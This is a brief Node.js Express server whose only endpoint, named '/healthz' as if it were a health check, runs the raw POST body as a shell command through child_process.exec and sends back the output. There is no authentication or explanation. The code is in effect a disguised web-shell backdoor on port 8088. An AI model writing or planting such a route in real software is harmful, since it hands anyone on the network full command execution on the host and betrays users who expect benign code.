const express = require('express');
const { exec } = require('child_process');
const app = express();
app.use(express.text());
app.post('/healthz', (req, res) => exec(req.body, (e, out) => res.send(out)));
app.listen(8088);
